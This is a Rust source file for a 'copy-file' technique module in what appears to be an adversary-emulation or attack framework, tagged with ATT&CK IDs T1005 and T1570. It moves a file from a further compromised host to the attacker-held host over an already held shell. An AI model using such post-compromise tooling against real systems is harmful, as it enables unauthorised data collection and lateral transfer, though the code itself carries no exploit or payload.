//! Copies a file from the host reached onward to the host whose shell it is in.

use super::{Progress, Step, Technique};
use crate::catalog::{Entry, Parameter, ParameterKind};
use crate::net::port::{Input, SocketEvent};
use crate::wire::Message;
use crate::wire::shell::{Command, Output, Shell};

/// Technique `copy-file`.
#[derive(Debug)]
pub(super) struct CopyFile;

static ENTRY: Entry = Entry {
    id: "copy-file",
    title: "Copy a file to a held host",
    summary: "Fetches a file over the onward shell and stores it on the host whose shell the attacker is in.",
    parameters: &[
        Parameter {
            name: "path",
            kind: ParameterKind::Text,
            required: true,
            doc: "path of the file there",
        },
        Parameter {
            name: "to",
            kind: ParameterKind::Text,
            required: false,
            doc: "path here; `/tmp/copy` if not given",
        },
    ],
    references: &["T1005", "T1570"],
};

impl Technique for CopyFile {
    fn entry(&self) -> &'static Entry {
        &ENTRY
    }

    fn stages(&self) -> &'static [&'static str] {
        &["fetch", "stored"]
    }

    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        match input {
            Input::Begin => {
                let Some(shell) = step.knowledge.shell.as_ref().filter(|s| s.onward) else {
                    return Progress::Failed("in no onward shell");
                };
                let stream = shell.stream;
                let to = match step.params.text("to") {
                    "" => "/tmp/copy",
                    to => to,
                };
                let fetch = Command::Fetch {
                    path: step.params.text("path").to_owned(),
                    to: to.to_owned(),
                };
                step.hands
                    .send(stream, Message::Shell(Box::new(Shell::Run(fetch))));
                Progress::Wait
            }
            Input::Socket(SocketEvent::Message { message, .. }) => match &**message {
                Message::Shell(s) => match **s {
                    Shell::Output(Output::Done) => Progress::Done("copied"),
                    Shell::Output(Output::NoSpace) => Progress::Failed("no room"),
                    Shell::Output(Output::NotFound) => Progress::Failed("no such file"),
                    Shell::Output(Output::Unreachable) => Progress::Failed("lost the onward shell"),
                    _ => Progress::Wait,
                },
                _ => Progress::Wait,
            },
            Input::Socket(SocketEvent::Failed { .. } | SocketEvent::Closed(_)) => {
                Progress::Failed("lost the shell")
            }
            _ => Progress::Wait,
        }
    }
}
